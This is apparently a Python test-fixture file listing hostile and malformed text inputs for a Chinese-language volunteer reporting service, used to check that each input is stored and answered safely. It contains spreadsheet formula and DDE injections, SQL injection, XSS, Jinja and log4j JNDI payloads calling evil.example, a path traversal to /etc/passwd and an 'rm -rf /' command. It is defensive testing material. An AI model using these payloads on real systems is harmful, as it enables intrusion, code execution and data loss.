"""Hostile payloads: what a liaison, a broken client or an attacker can send.

`TEXTS` are texts a liaison could really send (pasted from Word, typed on a phone, copied
from a web page): every surface must store each one and answer it in Chinese. The
malformed requests are listed beside the surface they attack, in tests/hostile/.
"""
from __future__ import annotations

SUMMARY = ("本月组织志愿者开展敬老院义诊活动两次，服务老人八十余人次；开展文明交通劝导三次，"
           "参与志愿者二十五人，发放宣传资料三百余份，群众反响良好。")


def _controls() -> list[tuple[str, str]]:
    """Each C0 control character, DEL and two C1 characters inside a real summary."""
    chars = [chr(c) for c in range(0x20)] + ["\x7f", "\x80", "\x9f"]
    return [(f"U+{ord(c):04X} inside a summary", SUMMARY[:20] + c + SUMMARY[20:])
            for c in chars]


_SPECIALS: list[tuple[str, str]] = [
    ("U+000B line breaks from Word's Shift+Enter", SUMMARY.replace("；", "\v")),
    ("form feeds between paragraphs", SUMMARY.replace("；", "\f")),
    ("a bell and a NUL at the end", SUMMARY + "\x07\x00"),
    ("U+FFFE and U+FFFF", SUMMARY + "\ufffe\uffff"),
    ("a byte order mark in front", "\ufeff" + SUMMARY),
    ("a right-to-left override", "\u202e" + SUMMARY),
    ("zero-width spaces and joiners", "\u200b\u200d".join(SUMMARY[:30]) + SUMMARY[30:]),
    ("line and paragraph separators", SUMMARY.replace("，", "\u2028").replace("；", "\u2029")),
    ("five hundred combining marks", SUMMARY + "a" + "\u0301" * 500),
    ("characters beyond the BMP", "𠀀𠀁𠀂𪚥" + SUMMARY + "🏮🎉"),
    ("Tibetan and Uyghur text", "བོད་ཡིག " + "ئۇيغۇرچە " + SUMMARY),
    ("a Mongolian vowel separator", SUMMARY.replace("，", "\u180e")),
    ("non-breaking spaces only", "\u00a0" * 10),
    ("ideographic spaces only", "\u3000" * 10),
    ("newlines only", "\n\r\n\n"),
    ("a single emoji", "👍"),
    ("emoji with a skin tone and a ZWJ family", "👍🏽👨‍👩‍👧‍👦"),
    ("a formula that links out", '=HYPERLINK("http://evil.example/","点我")' + SUMMARY),
    ("a leading plus", "+" + SUMMARY),
    ("a leading minus", "-1+1" + SUMMARY),
    ("a leading at sign", "@SUM(1+1)" + SUMMARY),
    ("a leading tab and formula", "\t=1+1" + SUMMARY),
    ("a leading CR and formula", "\r=1+1" + SUMMARY),
    ("a DDE payload", "=cmd|' /C calc'!A0" + SUMMARY),
    ("SQL", "'; DROP TABLE units; -- " + SUMMARY),
    ("HTML and script", "<script>alert('x')</script><img src=x onerror=alert(1)>" + SUMMARY),
    ("a Jinja expression", "{{ config.items() }}{% raw %}" + SUMMARY),
    ("printf directives", "%s%n%x%d" + SUMMARY),
    ("a log4j lookup", "${jndi:ldap://evil.example/a}" + SUMMARY),
    ("a path", "../../../../etc/passwd\\..\\windows" + SUMMARY),
    ("a CDATA end inside", "]]><xml>" + SUMMARY + "]]>"),
    ("an XML entity text", "&lt;&amp;&#0;&#x1F;" + SUMMARY),
    ("JSON inside", '{"user": "x", "text": "y"}' + SUMMARY),
    ("a markdown link and heading", "# 标题\n[点我](javascript:alert(1))\n" + SUMMARY),
    ("two thousand characters", (SUMMARY * 30)[:2000]),
    ("full-width slash help", "／帮助"),
    ("full-width status", "ＳＴＡＴＵＳ"),
    ("help with an ideographic space in front", "\u3000帮助"),
    ("a command with a space inside", "查 分"),
    ("a score query of a quarter that cannot be", "查分 2026Q9"),
    ("a score query of year zero", "查分 0000Q1"),
    ("a year query far away", "年度 9999"),
    ("a backfill of month thirteen", "补交 13月"),
    ("a backfill of month zero", "补交 2026-00"),
    ("a backfill far in the future", "补交 9999-12"),
    ("a backfill with words after it", "补交 2026-03 这是三月的材料"),
    ("a bind with an SQL code", "绑定 ' OR 1=1 --"),
    ("a bind with a very long code", "绑定 " + "A" * 500),
    ("a withdrawal with trailing junk", "撤回\x00\x00"),
    ("a slash command nobody knows", "/rm -rf /"),
    ("a near command", "查份"),
    ("a pleasantry", "收到，谢谢！"),
]

TEXTS: list[tuple[str, str]] = _controls() + _SPECIALS

# Unit names an office could import (a spreadsheet cell holds no control character).
UNIT_NAMES: list[tuple[str, str]] = [
    ("a unit name that is a formula", '=HYPERLINK("http://evil.example/","县妇联")'),
    ("a unit name with a leading plus", "+县科协"),
    ("a unit name with a leading minus", "-县残联"),
    ("a unit name with a leading at sign", "@县红十字会"),
    ("a unit name with a DDE payload", "=cmd|' /C calc'!A0"),
    ("a unit name with markup", "<b>县民政局</b><script>alert(1)</script>"),
    ("a unit name with a path", "../../县司法局"),
    ("a unit name with a slash and a backslash", "县委/县政府\\办公室"),
    ("a unit name with a right-to-left override", "\u202e县医保局"),
    ("a unit name with quotes", '县"文旅"局\'s'),
    ("a unit name with emoji", "县教体局🏫"),
    ("a unit name beyond the BMP", "𠀀𪚥县农业农村局"),
]

# Strings JSON can carry but UTF-8 cannot: lone UTF-16 surrogates (JSON surfaces only).
SURROGATE_TEXTS: list[tuple[str, str]] = [
    ("a lone high surrogate", SUMMARY + "\ud800"),
    ("a lone low surrogate", "\udfff" + SUMMARY),
    ("a reversed surrogate pair", SUMMARY + "\udc00\ud800"),
]


def has_chinese(text: str) -> bool:
    """Whether `text` holds at least two CJK characters: an answer a liaison can read."""
    return sum("\u4e00" <= c <= "\u9fff" for c in text) >= 2
